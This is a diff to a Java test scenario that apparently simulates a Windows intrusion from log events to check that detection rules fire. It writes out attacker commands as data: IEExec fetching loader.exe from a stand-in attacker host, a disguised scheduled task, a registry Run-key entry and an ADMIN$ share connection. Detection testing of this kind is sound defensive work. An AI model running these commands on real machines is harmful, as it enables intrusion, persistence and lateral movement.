@@ -54,13 +54,16 @@ final class Intrusion {
                 expand,
                 PackRule.LOLBIN_CONNECTION);
         stage.expects(PackRule.LOLBIN_THEN_CONNECTION, victim, expand);
+        stage.expects(PackRule.PAYLOAD_BROUGHT_IN, victim, expand);
         stage.happens(Sysmon.fileCreated(victim, expand, PAYLOAD.path(), time + seconds(3)));
+        stage.expects(PackRule.PAYLOAD_CONNECTION, victim, expand);
         stage.happens(Sysmon.ended(victim, expand, time + seconds(4)));
 
         var arguments = "/Y /E /L " + TEMP + " " + TEMP + "lib.cab";
         var extrac = stage.startsLolbin(
                 victim, shell, Program.EXTRAC32, Program.EXTRAC32.with(arguments), time + seconds(6));
         stage.happens(Sysmon.fileCreated(victim, extrac, TEMP + "lib.dll", time + seconds(7)));
+        stage.expects(PackRule.PAYLOAD_BROUGHT_IN, victim, extrac);
         stage.happens(Sysmon.ended(victim, extrac, time + seconds(8)));
     }
 
@@ -68,6 +71,7 @@ final class Intrusion {
     private Running launch(Machine victim, Running shell, long time) {
         var ieexec = victim.start(Program.IEEXEC, "IEExec.exe http://" + ATTACKER + "/upd/loader.exe", shell, time);
         stage.happens(Sysmon.started(victim, ieexec, shell, time).delivered(LATE), ieexec, PackRule.LOLBIN_EXECUTION);
+        stage.expects(PackRule.PAYLOAD_BROUGHT_IN, victim, ieexec);
         stage.happens(
                 Sysmon.connected(victim, ieexec, ATTACKER_HTTP, time + seconds(1)), ieexec, PackRule.LOLBIN_CONNECTION);
         stage.expects(PackRule.LOLBIN_THEN_CONNECTION, victim, ieexec);
@@ -77,7 +81,15 @@ final class Intrusion {
         stage.happens(Sysmon.nameAsked(victim, payload, "cdn.example.org", ATTACKER_IPV6.address(), begun));
         stage.happens(Sysmon.connected(victim, payload, ATTACKER_IPV6, begun - Timeline.SECOND * 2 / 5));
         stage.expects(PackRule.LOLBIN_CHILD_CONNECTION, victim, ieexec);
+        expectsWhatThisLeadsTo(victim, ieexec);
         return payload;
+    }
+
+    /** The chain is told of the binary that connected last before it, with what comes of it: see {@link #stay} and {@link #moveOn}. */
+    private void expectsWhatThisLeadsTo(Machine victim, Running ieexec) {
+        stage.expects(PackRule.FOOTHOLD_PERSISTENCE, victim, ieexec);
+        stage.expects(PackRule.FOOTHOLD_LATERAL_MOVEMENT, victim, ieexec);
+        stage.expects(PackRule.ATTACK_CHAIN, victim, ieexec);
     }
 
     /** More connections of the same tree, which are the same alert. */
@@ -92,7 +104,8 @@ final class Intrusion {
 
     private void stay(Machine victim, Running payload, long time) {
         var task = "/Create /SC MINUTE /MO 30 /TN \"Update Helper\" /TR " + PAYLOAD.path();
-        stage.starts(victim, payload, Program.SCHTASKS, Program.SCHTASKS.with(task), time);
+        var schtasks = stage.starts(victim, payload, Program.SCHTASKS, Program.SCHTASKS.with(task), time);
+        stage.expects(PackRule.PERSISTENCE_SET_UP, victim, schtasks);
         stage.happens(WindowsLogs.taskCreated(victim, "\\Update Helper", PAYLOAD.path(), time + seconds(1)));
 
         var key = "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
@@ -100,13 +113,15 @@ final class Intrusion {
                 victim, payload, Program.REG, Program.REG.with("add " + key + " /v Helper"), time + seconds(11));
         stage.happens(Sysmon.registrySet(
                 victim, reg, "HKU\\S-1-5-21" + key.substring(4) + "\\Helper", PAYLOAD.path(), time + seconds(12)));
+        stage.expects(PackRule.PERSISTENCE_SET_UP, victim, reg);
     }
 
     private void moveOn(Cast cast, Running payload, long time) {
         var server = cast.fileServer();
         var victim = cast.victim();
         var share = "use \\\\" + server.name() + "\\ADMIN$";
-        stage.starts(victim, payload, Program.NET, Program.NET.with(share), time);
+        var net = stage.starts(victim, payload, Program.NET, Program.NET.with(share), time);
+        stage.expects(PackRule.OTHER_HOST_REACHED, victim, net);
         stage.happens(WindowsLogs.loggedOn(server, victim.account(), 3, victim.address(), time + seconds(1)));
         stage.happens(WindowsLogs.shareOpened(
                 server, victim.account(), "\\\\*\\ADMIN$", victim.address(), time + seconds(2)));
